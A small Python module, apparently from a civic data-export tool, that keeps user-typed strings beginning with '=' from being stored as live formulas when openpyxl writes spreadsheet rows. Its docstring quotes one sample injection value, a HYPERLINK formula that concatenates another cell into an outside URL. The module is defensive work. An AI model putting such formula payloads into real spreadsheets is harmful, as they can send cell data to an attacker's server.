"""Spreadsheets handed to officials: what people typed stays text.

openpyxl stores any string that starts with ``=`` as a formula, so a citizen's comment such as
``=HYPERLINK("http://…"&B2)`` would run in the office's Excel. Every row we write goes through
``append_row``, which keeps such cells as the text they were.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any


def append_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with no cell turned into a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"
